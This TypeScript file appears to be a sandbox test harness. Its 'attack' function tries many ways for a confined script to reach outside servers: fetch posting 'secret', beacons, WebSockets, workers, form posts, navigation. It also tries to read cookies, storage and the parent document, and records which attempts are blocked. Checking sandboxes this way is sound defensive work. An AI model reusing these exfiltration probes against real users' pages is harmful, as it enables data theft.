/*
 * Everything a script could try from inside the sandbox. Runs as text in the frame and in its workers, so that it stands
 * on nothing but its argument.
 */

export interface AttackTargets {
  /** A server of a stranger, http://localhost:PORT. */
  readonly canary: string
  /** The app's own server. */
  readonly app: string
}

/** Evaluated first: a dynamic import, which no bundler may touch. */
export const importModule = 'globalThis.importModule = (url) => import(url)'

/** How each attempt ended: `blocked …`, `absent`, or whatever was reached. */
export type AttackReport = Readonly<Record<string, string>>

export async function attack({ canary, app }: AttackTargets): Promise<AttackReport> {
  // biome-ignore lint/suspicious/noExplicitAny: what is there to be found is the question
  const world = globalThis as unknown as Record<string, any>
  const report: Record<string, string> = {}
  const soon = (ms: number): Promise<string> =>
    new Promise((resolve) => setTimeout(() => resolve('blocked in silence'), ms))
  const attempt = async (name: string, deed: () => unknown): Promise<void> => {
    try {
      report[name] = String(await Promise.race([deed(), soon(700)]))
    } catch (error) {
      report[name] = `blocked by ${(error as Error).name}`
    }
  }
  // biome-ignore lint/suspicious/noExplicitAny: as above
  const need = (name: string): any => {
    if (world[name] === undefined) throw Object.assign(new Error(), { name: 'absence' })
    return world[name]
  }
  const event = (target: EventTarget, good: string[], bad: string[]): Promise<string> =>
    new Promise((resolve) => {
      for (const type of good) target.addEventListener(type, () => resolve(`REACHED by ${type}`))
      for (const type of bad) target.addEventListener(type, () => resolve('blocked by error'))
    })

  for (const [where, origin] of Object.entries({ canary, app: canary === app ? app : `${app}/stolen` })) {
    await attempt(`fetch ${where}`, async () => `REACHED ${(await need('fetch')(`${origin}/fetch`)).status}`)
    await attempt(`fetch without CORS ${where}`, async () => {
      await need('fetch')(`${origin}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' })
      return 'REACHED'
    })
    await attempt(`keepalive ${where}`, async () => {
      await need('fetch')(`${origin}/keepalive`, { mode: 'no-cors', keepalive: true })
      return 'REACHED'
    })
    await attempt(`XMLHttpRequest ${where}`, () => {
      const request = new (need('XMLHttpRequest'))()
      const end = event(request, ['load'], ['error'])
      request.open('GET', `${origin}/xhr`)
      request.send()
      return end
    })
    await attempt(`WebSocket ${where}`, () => {
      const socket = new (need('WebSocket'))(`${origin.replace('http', 'ws')}/socket`)
      return event(socket, ['open'], ['error'])
    })
    await attempt(`EventSource ${where}`, () =>
      event(new (need('EventSource'))(`${origin}/events`), ['open'], ['error']),
    )
    await attempt(`WebTransport ${where}`, async () => {
      await new (need('WebTransport'))(`${origin.replace('http:', 'https:')}/transport`).ready
      return 'REACHED'
    })
    // It says yes and sends nothing: only the server knows.
    await attempt(`sendBeacon ${where}`, () => {
      need('navigator').sendBeacon(`${origin}/beacon`, 'x')
      return soon(300)
    })
    await attempt(`importScripts ${where}`, () => {
      need('importScripts')(`${origin}/script.js`)
      return 'REACHED'
    })
    await attempt(`import() ${where}`, async () => {
      await need('importModule')(`${origin}/module.js`)
      return 'REACHED'
    })
    await attempt(`worker of ${where}`, () =>
      event(new (need('Worker'))(`${origin}/worker.js`), ['message'], ['error']),
    )
    await attempt(`SharedWorker of ${where}`, () =>
      event(new (need('SharedWorker'))(`${origin}/shared.js`), ['message'], ['error']),
    )
    await attempt(`FontFace ${where}`, async () => {
      await new (need('FontFace'))('probe', `url(${origin}/font.woff2)`).load()
      return 'REACHED'
    })
    if (world['document'] === undefined) continue
    const document = world['document'] as Document
    const element = (tag: string, attributes: Record<string, string>): Promise<string> => {
      const made = Object.assign(document.createElement(tag), attributes)
      const end = event(made, ['load'], ['error'])
      document.documentElement.append(made)
      return end
    }
    await attempt(`image ${where}`, () => element('img', { src: `${origin}/image.png` }))
    await attempt(`script ${where}`, () => element('script', { src: `${origin}/element.js` }))
    await attempt(`stylesheet ${where}`, () =>
      element('link', { rel: 'stylesheet', href: `${origin}/style.css` }),
    )
    await attempt(`prefetch ${where}`, () => element('link', { rel: 'prefetch', href: `${origin}/prefetch` }))
    await attempt(`preload ${where}`, () =>
      element('link', { rel: 'preload', as: 'script', href: `${origin}/preload` }),
    )
    await attempt(`video ${where}`, () => element('video', { src: `${origin}/video.mp4` }))
    await attempt(`object ${where}`, () => element('object', { data: `${origin}/object` }))
    await attempt(`style of an element ${where}`, () => {
      document.documentElement.style.backgroundImage = `url(${origin}/background.png)`
      return soon(300)
    })
    await attempt(`form ${where}`, () => {
      const form = Object.assign(document.createElement('form'), { action: `${origin}/form`, method: 'post' })
      document.documentElement.append(form)
      form.submit()
      return soon(300)
    })
    await attempt(`window.open ${where}`, () =>
      need('open')(`${origin}/popup`) === null ? 'blocked' : 'REACHED',
    )
    await attempt(`navigation of the top ${where}`, () => {
      ;(world['top'] as Window).location.href = `${origin}/top`
      return soon(300)
    })
  }

  await attempt('indexedDB', () =>
    event(need('indexedDB').open('app'), ['success', 'upgradeneeded'], ['error']),
  )
  await attempt('caches', async () => `REACHED ${(await need('caches').keys()).join()}`)
  await attempt(
    'private file system',
    async () => `REACHED ${(await need('navigator').storage.getDirectory()).name}`,
  )
  await attempt('locks', async () => `REACHED ${JSON.stringify(await need('navigator').locks.query())}`)
  await attempt(
    'service worker',
    async () => `REACHED ${await need('navigator').serviceWorker.getRegistrations()}`,
  )
  await attempt('cookieStore', async () => `REACHED ${JSON.stringify(await need('cookieStore').getAll())}`)
  await attempt('BroadcastChannel', () => {
    const channel = new (need('BroadcastChannel'))('app')
    channel.postMessage('from the sandbox')
    return event(channel, ['message'], [])
  })
  await attempt('eval', () => `REACHED ${need('eval')('1+1')}`)
  await attempt('Function', () => `REACHED ${need('Function')('return 1')()}`)
  if (world['document'] !== undefined) {
    await attempt('cookie', () => `REACHED ${(world['document'] as Document).cookie}`)
    await attempt('localStorage', () => `REACHED ${world['localStorage'].length}`)
    await attempt('sessionStorage', () => `REACHED ${world['sessionStorage'].length}`)
    await attempt('parent document', () => `REACHED ${world['parent'].document.title}`)
    await attempt('parent function', () => `REACHED ${typeof world['parent'].sandboxPage}`)
    await attempt('alert', () => (need('alert')('x') === undefined ? 'blocked' : 'REACHED'))
  }
  return report
}
